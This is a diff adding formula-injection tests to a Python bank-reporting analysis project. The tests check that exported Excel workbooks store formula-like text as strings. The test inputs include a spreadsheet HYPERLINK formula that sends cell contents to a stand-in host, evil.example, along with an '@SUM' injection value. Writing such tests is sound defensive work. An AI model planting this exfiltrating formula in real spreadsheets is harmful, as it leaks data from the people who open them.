@@ -237,7 +237,7 @@ def test_the_pdf_layout_wraps_the_longest_unbroken_name_the_contract_allows(tmp_
         f'<body><main class="report"><h1>{name}</h1><p>机构：{name}</p>'
         '<table class="indicators"><thead><tr><th>序号</th><th>机构名称</th><th>余额（万元）</th></tr></thead>'
         f'<tbody><tr><td>1</td><td>{name}</td><td class="num">1,234.56</td></tr></tbody></table>'
-        f"<ul class=\"findings\"><li>{name}</li></ul></main></body></html>"
+        f'<ul class="findings"><li>{name}</li></ul></main></body></html>'
     )
     pdf = report_pdf(
         html,
@@ -258,3 +258,100 @@ def test_the_pdf_layout_wraps_the_longest_unbroken_name_the_contract_allows(tmp_
     assert any("NANYANGVILLAGEBANK" in text for _, _, text in words)
     info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
     assert int(re.search(r"Pages:\s+(\d+)", info).group(1)) == 2  # the cover and one page
+
+
+# ---------------------------------------------------------------- formula injection, every workbook
+
+HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def formula_elements(path: Path) -> list[str]:
+    """Every ``<f>`` element of every sheet of the workbook at ``path``, read from the archive's
+    XML (not through openpyxl). The project writes no formulas: any is an injection."""
+    found = []
+    with zipfile.ZipFile(path) as book:
+        for member in book.namelist():
+            if member.startswith("xl/worksheets/") and member.endswith(".xml"):
+                xml = book.read(member).decode("utf-8")
+                found += [f"{member}: {m}" for m in re.findall(r"<(?:\w+:)?f[\s>/][^<]*", xml)]
+    return found
+
+
+def text_cells(path: Path, text: str) -> list[str]:
+    """Data types of the cells holding exactly ``text`` (openpyxl: 's' text, 'f' formula)."""
+    import openpyxl
+
+    book = openpyxl.load_workbook(path)
+    return [c.data_type for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == text]
+
+
+def test_the_formula_checker_finds_a_planted_formula(tmp_path):
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    book.active["A1"] = HOSTILE_TEXT  # what DataFrame.to_excel does with such a string
+    book.save(tmp_path / "planted.xlsx")
+    assert formula_elements(tmp_path / "planted.xlsx")
+
+
+def test_the_loans_findings_workbook_stores_a_formula_like_receipt_id_as_text(tmp_path):
+    from analysis.loans import analyse_loans, write_findings_xlsx
+    from tests.test_loans import CUSTOMERS, LINES, RECEIPTS, _reported
+
+    folder = tmp_path / "loans"
+    folder.mkdir()
+    receipts = RECEIPTS.copy()
+    receipts.loc[receipts["receipt_id"] == "R6", "receipt_id"] = HOSTILE_TEXT  # R6: overdue, not NPL
+    for name, frame in (("receipts", receipts), ("customers", CUSTOMERS), ("credit_lines", LINES)):
+        frame.to_csv(folder / f"{name}.csv", index=False)
+    findings = analyse_loans(folder, _reported())
+    assert HOSTILE_TEXT in findings.checks["overdue_not_npl"]["receipt_id"].tolist()
+    path = write_findings_xlsx(findings, tmp_path / "findings.xlsx")
+    assert not formula_elements(path)
+    assert text_cells(path, HOSTILE_TEXT) == ["s"]
+
+
+def test_indicators_workbook_from_validated_data_stores_formula_like_names_as_text(tmp_path, data):
+    from analysis.export import write_indicator_workbook
+    from analysis.state import compute_state
+
+    frame = read(data, INSTITUTIONS)
+    frame.loc[frame["机构编码"] == "B010", "机构名称"] = HOSTILE_TEXT
+    frame.loc[frame["机构编码"] == "B011", "机构名称"] = "@SUM(A1:A9)"
+    write(data, INSTITUTIONS, frame)
+    state = compute_state(data, PARAMS)
+    path = write_indicator_workbook(state, pd.Timestamp("2023-06-30"), tmp_path / "indicators.xlsx")
+    assert not formula_elements(path)
+    assert set(text_cells(path, HOSTILE_TEXT)) == {"s"} and set(text_cells(path, "@SUM(A1:A9)")) == {"s"}
+
+
+def test_the_imported_monitoring_table_stores_text_as_text(tmp_path):
+    from analysis import s71
+
+    monthly = pd.DataFrame({"institution_id": [HOSTILE_TEXT], "period": [pd.Timestamp("2023-06-30")]})
+    for col in s71.MONTHLY.columns:
+        if col.name not in monthly:
+            monthly[col.name] = [1.0]
+    cells = pd.DataFrame(
+        columns=["institution_id", "period", "cell", "value_wan", "org_num", "item", "version", "unit"]
+        + ["file", "sheet", "location"]
+    ).astype({"period": "datetime64[ns]"})
+    provenance = pd.DataFrame({"period": ["2023-06-30"]})
+    s71._write_outputs(tmp_path, monthly, provenance, cells, None, None)
+    assert not formula_elements(tmp_path / "monthly.xlsx")
+    assert text_cells(tmp_path / "monthly.xlsx", HOSTILE_TEXT) == ["s"]
+
+
+def test_the_demo_workbooks_hold_no_formula(tmp_path, demo_xlsx_dir):
+    from analysis.demo_s71 import write_form_workbook
+    from analysis.s71 import load_form_versions
+
+    books = sorted(demo_xlsx_dir.glob("*.xlsx"))
+    assert len(books) >= 5
+    for book in books:
+        assert not formula_elements(book), book.name
+    versions = load_form_versions(PARAMS)
+    cells = pd.DataFrame({"period": [pd.Timestamp("2023-06-30")], "cell": ["6.A5"], "value": [12.5]})
+    form = tmp_path / "S71_B030_表样.xlsx"
+    write_form_workbook(form, "B030", HOSTILE_TEXT, cells, versions)
+    assert not formula_elements(form)
